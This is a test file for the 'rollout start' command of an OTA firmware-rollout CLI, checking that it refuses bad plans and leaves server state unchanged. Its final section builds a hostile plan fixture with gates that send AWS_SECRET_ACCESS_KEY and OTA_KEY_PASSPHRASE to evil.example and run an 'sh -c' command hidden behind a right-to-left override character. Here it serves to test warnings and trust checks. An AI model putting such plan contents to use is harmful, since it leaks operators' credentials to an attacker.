import { rm, writeFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { deviceListHash } from '../../../../src/lib/rollout/device-list-hash.js';
import { openRolloutDesk, type RolloutDesk } from './rollout-desk.js';

let desk: RolloutDesk;
beforeAll(async () => {
  desk = await openRolloutDesk();
});
afterAll(() => desk[Symbol.asyncDispose]());

/** All that a refusal must leave as it was. */
async function stateOfServer(): Promise<string> {
  const { sql } = desk.server.running.context.database;
  const tables = ['campaign', 'campaign_entry', 'rollout', 'release', 'software_module', 'audit'] as const;
  return JSON.stringify(await Promise.all(tables.map((table) => sql.selectFrom(table).selectAll().execute())));
}

async function refused(words: string): Promise<{ status: number; stderr: string }> {
  const before = await stateOfServer();
  const { status, stdout, stderr } = await desk.ota(words);
  expect(stdout).toBe('');
  expect(await stateOfServer()).toBe(before);
  return { status, stderr };
}

describe('ota rollout start refuses', () => {
  test('a file that is not there, and tells how a plan is made', async () => {
    const { status, stderr } = await refused('rollout start nothing.json');
    expect(status).toBe(16);
    expect(stderr).toContain('nothing.json');
    expect(stderr).toContain('ota rollout plan');
  });

  test('a file that is no plan', async () => {
    expect(await refused('rollout start meter-2.0.0.ota')).toMatchObject({ status: 4 });
  });

  test('a plan for another server, whatever is configured', async () => {
    const plan = await desk.plan({
      name: 'elsewhere',
      server: { driver: 'fleet', address: 'https://fleet.example.com' },
    });
    const { status, stderr } = await refused(`rollout start ${plan} --server ${desk.server.url}`);
    expect(status).toBe(2);
    expect(stderr).toContain(`elsewhere is a plan for https://fleet.example.com, got ${desk.server.url}`);
  });

  test('a server where nobody is logged in', async () => {
    const plan = await desk.plan({
      name: 'elsewhere',
      server: { driver: 'fleet', address: 'https://fleet.example.com' },
    });
    const { status, stderr } = await refused(`rollout start ${plan}`);
    expect(status).toBe(15);
    expect(stderr).toContain('not logged in to https://fleet.example.com');
  });

  test('a package that is not at the server, and says what to type', async () => {
    const { status, stderr } = await refused(`rollout start ${await desk.plan()} --detach`);
    expect(status).toBe(16);
    expect(stderr).toContain(`meter 2.0.0 is not at ${desk.server.url}`);
    expect(stderr).toContain('Add --package meter-2.0.0.ota');
  });

  test('another package than that of the plan', async () => {
    const { status, stderr } = await refused(`rollout start ${await desk.plan()} --package other.ota --detach`);
    expect(status).toBe(8);
    expect(stderr).toMatch(/other\.ota is meter 3\.0\.0 with digest [0-9a-f]{64}, the plan is for meter 2\.0\.0 with/);
  });

  test('devices that have changed by more than the plan allows, unless told to accept it', async () => {
    const devices = ['d0001', 'd0002', 'd0003', 'gone1', 'gone2'];
    const changes = {
      ...{ name: 'drifted', stages: [{ devices }], allowedDriftPercent: 10 },
      target: { where: 'id==d0001,id==d0002,id==d0003', exclude: null, devicesSha256: deviceListHash(devices) },
    };
    const plan = await desk.plan(changes);
    const { status, stderr } = await refused(`rollout start ${plan} --package meter-2.0.0.ota --detach`);
    expect(status).toBe(8);
    expect(stderr).toContain('2 of 5 devices are not as planned (40 %): 2 gone, at most 10 % are allowed');
    expect(stderr).toContain('ota rollout diff');
    const before = await stateOfServer();
    const dry = await desk.ota(`rollout start ${plan} --package meter-2.0.0.ota --accept-drift --dry-run`);
    expect(dry).toMatchObject({ status: 0 });
    expect(dry.stdout).toContain('Would begin drifted: meter 2.0.0 for 5 devices');
    expect(await stateOfServer()).toBe(before);
  });
});

describe('ota rollout start', () => {
  test('sends the package, begins the campaign and leaves it to the server', async () => {
    const plan = await desk.plan();
    const started = await desk.ota(`rollout start ${plan} --package meter-2.0.0.ota --detach`);
    expect(started).toMatchObject({ status: 0, stdout: expect.stringMatching(/^meter-2\.0\.0 is running: stage /) });
    expect(started.stderr).toContain('ota rollout watch meter-2.0.0');
    const { body } = await desk.server.call('GET', '/api/v1/releases');
    expect(body.items).toMatchObject([{ product: 'meter', version: '2.0.0' }]);
    expect((await desk.server.call('GET', '/api/v1/campaigns')).body.items).toMatchObject([{ name: 'meter-2.0.0' }]);
  });

  test('of the same plan again goes on with what is there, without looking at the devices', async () => {
    const before = await stateOfServer();
    const again = await desk.ota(`rollout start ${await desk.plan()} --detach --json`);
    expect(again.status).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ type: 'campaign', name: 'meter-2.0.0', phase: 'running' });
    expect(await stateOfServer()).toBe(before);
    const waited = await desk.ota(`rollout start ${await desk.plan()} --wait 1ms`);
    expect(waited).toMatchObject({ status: 14, stderr: expect.stringContaining('was begun before') });
  });

  test('of another plan with the same name is refused', async () => {
    const { status, stderr } = await refused(`rollout start ${await desk.plan({ seed: 2 })} --detach`);
    expect(status).toBe(8);
    expect(stderr).toContain('there is a campaign meter-2.0.0 already, and it has another plan');
  });

  test('of a plan that runs commands needs --local', async () => {
    const command = {
      type: 'command' as const,
      argv: ['true'] as string[],
      timeoutSeconds: 1,
      everySeconds: 60,
      otherwise: 'pause',
    } as const;
    const plan = await desk.plan({ name: 'commands', gates: [command] });
    const { status, stderr } = await refused(`rollout start ${plan}`);
    expect(status).toBe(2);
    expect(stderr).toContain('Add --local');
  });

  test('of a campaign in one place never begins it a second time in the other', async () => {
    const inServer = await desk.plan({ name: 'in-server' });
    const here = await desk.plan({ name: 'here' });
    await desk.ota(`rollout start ${inServer} --detach`);
    expect(await desk.ota(`rollout start ${here} --local --wait 1ms`)).toMatchObject({ status: 14 });
    const { status, stderr } = await refused(`rollout start ${inServer} --local`);
    expect(status).toBe(8);
    expect(stderr).toContain('the server runs a campaign in-server already');
    const again = await desk.ota(`rollout start ${here} --wait 1ms`);
    expect(again).toMatchObject({ status: 14, stderr: expect.stringContaining('here was begun before') });
    const { body } = await desk.server.call('GET', '/api/v1/campaigns/here');
    expect(body.error).toBeDefined();
  });
});

describe('of a plan that wants programs and secrets of this machine', () => {
  const limits = { timeoutSeconds: 1, everySeconds: 60, otherwise: 'pause' } as const;
  const probe = { type: 'probe', url: 'https://evil.example/x', tokenEnv: 'AWS_SECRET_ACCESS_KEY', ...limits } as const;
  const command = { type: 'command' as const, argv: ['sh', '-c', 'touch it; \u202e'], ...limits };
  const hostile = (name: string) =>
    desk.plan({
      ...{ name, gates: [command, { ...probe }] },
      ...{ webhook: 'https://evil.example/hook', webhookTokenEnv: 'OTA_KEY_PASSPHRASE' },
    });
  const wants = (name: string) => [
    `${name} runs "sh" "-c" "touch it; \\u{202e}" with your rights (stage 1, stage 2)`,
    `${name} sends the variable AWS_SECRET_ACCESS_KEY to https://evil.example`,
    `${name} sends the variable OTA_KEY_PASSPHRASE to https://evil.example`,
  ];

  test('ota rollout start shows all of them, and begins nothing where nobody can be asked', async () => {
    const plan = await hostile('hostile');
    const { status, stderr } = await refused(`rollout start ${plan} --local --quiet`);
    expect(status).toBe(2);
    for (const line of wants('hostile')) expect(stderr).toContain(`warning: ${line}\n`);
    expect(stderr).toContain('Read the gates of the plan, then add --trust-plan.');
    expect(await desk.ota('rollout status hostile --local')).toMatchObject({ status: 16 });
  });

  test('a dry run shows them, too', async () => {
    const { status, stderr } = await desk.ota(
      `rollout start ${await hostile('dry')} --local --dry-run --package meter-2.0.0.ota`,
    );
    expect(status).toBe(0);
    for (const line of wants('dry')) expect(stderr).toContain(line);
  });

  test('with --trust-plan it begins, and whoever goes on with it has to say so again, but not who ends it', async () => {
    const plan = await hostile('trusted');
    await desk.ota(`rollout start ${await desk.plan({ name: 'bringer' })} --package meter-2.0.0.ota --detach`);
    const begun = await desk.ota(`rollout start ${plan} --local --trust-plan --wait 1ms`);
    expect(begun).toMatchObject({ status: 14, stderr: expect.stringContaining(wants('trusted')[0]!) });
    for (const words of [`start ${plan} --local`, 'resume trusted --local', 'approve trusted --local']) {
      const { status, stderr } = await desk.ota(`rollout ${words} --wait 1ms`);
      expect([words, status]).toEqual([words, 2]);
      expect(stderr).toContain('--trust-plan');
    }
    expect(await desk.ota('rollout resume trusted --local --wait 1ms --trust-plan')).toMatchObject({ status: 14 });
    expect(await desk.ota('rollout abort trusted --local --yes --wait 1ms')).not.toMatchObject({ status: 2 });
  });

  test('no project file may trust plans', async () => {
    await writeFile(desk.folder.file('ota.config.json'), '{"trust-plan": true}');
    const { status, stderr } = await refused(`rollout start ${await hostile('preset')} --local`);
    expect(status).toBe(2);
    expect(stderr).toContain('--trust-plan can only be given on the command line');
    await rm(desk.folder.file('ota.config.json'));
  });
});
